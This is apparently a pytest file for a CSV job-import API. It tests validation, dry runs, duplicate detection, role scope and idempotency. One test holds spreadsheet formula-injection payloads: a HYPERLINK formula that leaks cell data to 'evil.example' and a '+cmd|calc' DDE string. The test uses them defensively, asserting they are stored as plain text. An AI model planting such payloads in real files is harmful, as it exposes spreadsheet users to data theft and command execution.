"""POST /jobs/import: the CSV import of jobs, its dry run, all rows or none, and scope."""
from __future__ import annotations

import io
import json
from datetime import timedelta

import pytest
import sqlalchemy as sa

from app.extensions import db
from app.models import Alert, AuditEntry, Job, Site
from app.models.types import utcnow
from app.services import intake as intake_service
from tests.support import ApiClient

HEADER = "external_id,site_id,title,description,category,priority,reported_at,scheduled_for,engineer_id\n"


def iso(at) -> str:
    return at.isoformat().replace("+00:00", "Z")


@pytest.fixture
def world(org, factory):
    site = factory.site()
    other_site = factory.site()
    db.session.commit()
    return {"site": site.id, "other_site": other_site.id, **{k: v.id for k, v in org.items()}}


def upload(client: ApiClient, text: str | bytes, dry_run: bool = False, source: str | None = None,
           multipart: bool = False, **kwargs):
    query = "?dry_run=true" if dry_run else ""
    if source:
        query += ("&" if query else "?") + f"source={source}"
    data = text.encode() if isinstance(text, str) else text
    if multipart:
        return client.post("jobs/import" + query, data={"file": (io.BytesIO(data), "jobs.csv")},
                           content_type="multipart/form-data", **kwargs)
    return client.post("jobs/import" + query, data=data, content_type="text/csv", **kwargs)


def count_jobs() -> int:
    return db.session.scalar(sa.select(sa.func.count(Job.id)))


def good_rows(world, n: int = 3) -> str:
    reported = iso(utcnow() - timedelta(hours=2))
    return "".join(
        f"T-{i},{world['site']},Leak {i},Water under unit {i},hvac,normal,{reported},2026-12-10,"
        f"{world['eng_a1'] if i % 2 else ''}\n" for i in range(1, n + 1))


def test_a_valid_file_is_imported_whole_with_source_and_external_ids(client, org, world):
    client.use_token(org["sup_a"])
    response = upload(client, HEADER + good_rows(world), multipart=True)
    assert response.status_code == 201, response.get_data(as_text=True)
    report = response.json
    assert (report["dry_run"], report["rows"], report["accepted"], report["imported"]) == (False, 3, 3, 3)
    assert report["refused"] == [] and len(report["job_ids"]) == 3
    jobs = list(db.session.scalars(sa.select(Job).order_by(Job.id)))
    assert [(j.source, j.external_id, j.created_by_id) for j in jobs] == [
        ("csv", f"T-{i}", org["sup_a"].id) for i in (1, 2, 3)]
    assert [j.status for j in jobs] == ["assigned", "new", "assigned"]
    assert jobs[0].engineer_id == org["eng_a1"].id and jobs[0].assigned_at is not None
    assert jobs[1].engineer_id is None and jobs[1].scheduled_for.isoformat() == "2026-12-10"
    shown = client.get(f"jobs/{jobs[0].id}").json
    assert (shown["source"], shown["external_id"]) == ("csv", "T-1")
    entry = db.session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "job.import"))
    assert entry.detail["imported"] == 3 and entry.detail["assigned"] == 2


def test_a_dry_run_reports_every_kind_of_refused_row_by_line_and_imports_nothing(client, org, world):
    client.use_token(org["sup_a"])
    now = utcnow()
    past = iso(now - timedelta(hours=1))
    lines = [
        HEADER.strip(),                                                                     # 1
        f"A-1,{world['site']},Good,,hvac,normal,{past},,",                                  # 2
        f"A-2,999999,Unknown site,,hvac,normal,{past},,",                                   # 3
        f"A-3,{world['site']},Unknown category,,rocketry,normal,{past},,",                  # 4
        f"A-4,{world['site']},Other team,,hvac,normal,{past},,{world['eng_b1']}",           # 5
        f"A-5,{world['site']},No offset,,hvac,normal,2026-12-01 08:00,,",                   # 6
        f"A-6,{world['site']},Future,,hvac,normal,{iso(now + timedelta(days=1))},,",        # 7
        f"A-1,{world['site']},Twice in file,,hvac,normal,{past},,",                         # 8
        f"A-9,{world['site']},,,hvac,normal,{past},,",                                      # 9
        "",                                                                                 # 10 (blank)
        f"A-10,{world['site']},Bad priority,,hvac,asap,{past},,",                           # 11
        f"A-11,{world['site']},Bad date,,hvac,normal,{past},12/10/2026,",                   # 12
        f"STORED-1,{world['site']},Stored before,,hvac,normal,{past},,",                    # 13
        f'A-12,{world["site"]},"Two-line\ndescription",,hvac,normal,{past},,,extra',        # 14-15
        f"A-13,{world['site']},Admin only engineer,,hvac,normal,{past},,{world['loner']}",  # 16
        f"A-14,abc,Bad id,,hvac,normal,{past},,",                                           # 17
    ]
    stored = Job(site_id=world["site"], title="Old", category="hvac", priority="normal",
                 reported_at=now, source="csv", external_id="STORED-1")
    db.session.add(stored)
    db.session.commit()
    response = upload(client, "\n".join(lines) + "\n", dry_run=True)
    assert response.status_code == 200, response.get_data(as_text=True)
    report = response.json
    assert (report["dry_run"], report["rows"], report["accepted"], report["imported"]) == (True, 14, 1, 0)
    codes = {item["line"]: [(r["code"], r["column"]) for r in item["reasons"]] for item in report["refused"]}
    assert codes == {
        3: [("UNKNOWN_SITE", "site_id")],
        4: [("UNKNOWN_CATEGORY", "category")],
        5: [("ENGINEER_OUT_OF_SCOPE", "engineer_id")],
        6: [("BAD_TIME", "reported_at")],
        7: [("BAD_TIME", "reported_at")],
        8: [("DUPLICATE_IN_FILE", "external_id")],
        9: [("MISSING_FIELD", "title")],
        11: [("BAD_VALUE", "priority")],
        12: [("BAD_TIME", "scheduled_for")],
        13: [("ALREADY_IMPORTED", "external_id")],
        14: [("TOO_MANY_VALUES", None)],
        16: [("ENGINEER_OUT_OF_SCOPE", "engineer_id")],
        17: [("BAD_VALUE", "site_id")],
    }
    assert "line 2" in report["refused"][5]["reasons"][0]["detail"]  # the first A-1
    assert count_jobs() == 1  # only the one stored before


def test_a_real_run_with_one_bad_row_imports_nothing_and_names_it(client, org, world):
    client.use_token(org["admin"])
    text = HEADER + good_rows(world, 5) + f"Z-1,{world['site']},Bad,,hvac,whenever,,,\n"
    response = upload(client, text)
    assert response.status_code == 422
    body = response.json
    assert body["code"] == "VALIDATION_ERROR"
    assert body["errors"]["rows"] == [{"line": 7, "reasons": [
        {"code": "BAD_VALUE", "column": "priority", "detail": "Must be one of low, normal, high, urgent."}]}]
    assert count_jobs() == 0
    assert upload(client, HEADER + good_rows(world, 5)).status_code == 201
    assert count_jobs() == 5


def test_the_same_file_twice_is_refused_the_second_time(client, org, world):
    client.use_token(org["admin"])
    text = HEADER + good_rows(world, 2)
    assert upload(client, text).status_code == 201
    again = upload(client, text)
    assert again.status_code == 422
    assert {r["code"] for row in again.json["errors"]["rows"] for r in row["reasons"]} == {"ALREADY_IMPORTED"}
    assert count_jobs() == 2


def test_external_ids_are_unique_per_source_named_by_the_upload(client, org, world, admin_source):
    client.use_token(org["admin"])
    text = HEADER + good_rows(world, 1)
    assert upload(client, text).status_code == 201
    into_source = upload(client, text, source="servicenow")
    assert into_source.status_code == 201, into_source.get_data(as_text=True)
    assert into_source.json["source"] == "servicenow"
    assert sorted(db.session.scalars(sa.select(Job.source))) == ["csv", "servicenow"]
    unknown = upload(client, text, source="jira")
    assert unknown.status_code == 422 and "source" in unknown.json["errors"]


@pytest.fixture
def admin_source(org, world):
    intake_service.create_source(org["admin"], {
        "key": "servicenow", "name": "ServiceNow",
        "mapping": {"external_id": "/n", "title": "/t", "priority": {"value": "normal"},
                    "category": {"value": "hvac"}, "site": "/s"}})
    db.session.commit()


def test_cells_that_look_like_formulas_are_stored_as_text_and_never_echoed(client, org, world):
    client.use_token(org["admin"])
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = (HEADER + f'F-1,{world["site"]},"{formula.replace(chr(34), chr(34) * 2)}",+cmd|calc,hvac,normal,,,\n')
    bad = text + f'F-2,{world["site"]},x,,hvac,"{formula.replace(chr(34), chr(34) * 2)}",,,\n'
    refused = upload(client, bad, dry_run=True)
    assert refused.status_code == 200 and refused.json["refused"][0]["line"] == 3
    assert "HYPERLINK" not in refused.get_data(as_text=True)
    assert upload(client, text).status_code == 201
    job = db.session.scalar(sa.select(Job))
    assert job.title == formula and job.description == "+cmd|calc"


@pytest.mark.parametrize("text, field", [
    ("site_id,title\n1,x\n", "columns"),                       # category and priority missing
    ("site_id,title,category,priority,colour\n", "columns"),   # unknown column
    ("site_id,title,category,priority,title\n", "columns"),    # a column twice
    (HEADER, "file"),                                          # no rows
    (b"\xff\xfe\x00\x00" * 10, "columns"),                     # not text we know: read as GB18030 fails or header off
])
def test_a_file_that_is_not_a_jobs_csv_is_refused_whole(client, org, world, text, field):
    client.use_token(org["admin"])
    response = upload(client, text, dry_run=True)
    assert response.status_code == 422, response.get_data(as_text=True)
    assert field in response.json["errors"] or "file" in response.json["errors"]
    assert count_jobs() == 0


def test_gb18030_from_excel_is_read(client, org, world):
    client.use_token(org["admin"])
    text = HEADER + f"G-1,{world['site']},空调漏水,室内机滴水,hvac,high,,,\n"
    response = upload(client, text.encode("gb18030"))
    assert response.status_code == 201, response.get_data(as_text=True)
    assert db.session.scalar(sa.select(Job.title)) == "空调漏水"


def test_more_than_ten_thousand_rows_are_refused(client, org, world):
    client.use_token(org["admin"])
    rows = "".join(f",{world['site']},T,,hvac,normal,,,\n" for _ in range(10_001))
    response = upload(client, HEADER + rows, dry_run=True)
    assert response.status_code == 422 and "file" in response.json["errors"]


def test_a_supervisor_imports_for_their_team_only(client, org, world):
    client.use_token(org["sup_b"])
    text = HEADER + f"S-1,{world['site']},x,,hvac,normal,,,{world['eng_a1']}\n"
    response = upload(client, text)
    assert response.status_code == 422
    assert response.json["errors"]["rows"][0]["reasons"][0]["code"] == "ENGINEER_OUT_OF_SCOPE"
    own = HEADER + f"S-1,{world['site']},x,,hvac,normal,,,{world['eng_b1']}\n"
    assert upload(client, own).status_code == 201
    # An admin may dispatch to anyone active, also an engineer without a team.
    admin = ApiClient(client.client.application.test_client()).use_token(org["admin"])
    loner = HEADER + f"S-2,{world['site']},x,,hvac,normal,,,{world['loner']}\n"
    assert upload(admin, loner).status_code == 201


@pytest.mark.parametrize("actor, status", [("eng_a1", 403), (None, 401)])
def test_engineers_and_anonymous_callers_may_not_import(client, org, world, actor, status):
    if actor:
        client.use_token(org[actor])
    assert upload(client, HEADER + good_rows(world, 1)).status_code == status
    assert count_jobs() == 0


def test_imported_jobs_raise_keyword_alerts_and_repeat_repairs_like_posted_ones(client, org, world, factory):
    client.use_token(org["admin"])
    closed_at = utcnow() - timedelta(days=3)
    earlier = factory.job(site=db.session.get(Site, world["site"]),
                          status="closed", closed_at=closed_at, reported_at=closed_at - timedelta(hours=5))
    db.session.commit()
    text = HEADER + f"R-1,{world['site']},Again,客户投诉 again,hvac,normal,,,{world['eng_a1']}\n"
    response = upload(client, text)
    assert response.status_code == 201, response.get_data(as_text=True)
    job = db.session.get(Job, response.json["job_ids"][0])
    assert job.repeat_of_id == earlier.id
    alert = db.session.scalar(sa.select(Alert).where(Alert.job_id == job.id))
    assert alert is not None and alert.kind == "KEYWORD" and alert.engineer_id == org["eng_a1"].id


def test_a_replayed_import_with_its_key_imports_once(client, org, world):
    client.use_token(org["admin"])
    text = HEADER + good_rows(world, 2)
    first = upload(client, text, headers={"Idempotency-Key": "import-1"})
    again = upload(client, text, headers={"Idempotency-Key": "import-1"})
    assert first.status_code == again.status_code == 201
    assert json.loads(again.get_data()) == first.json and count_jobs() == 2
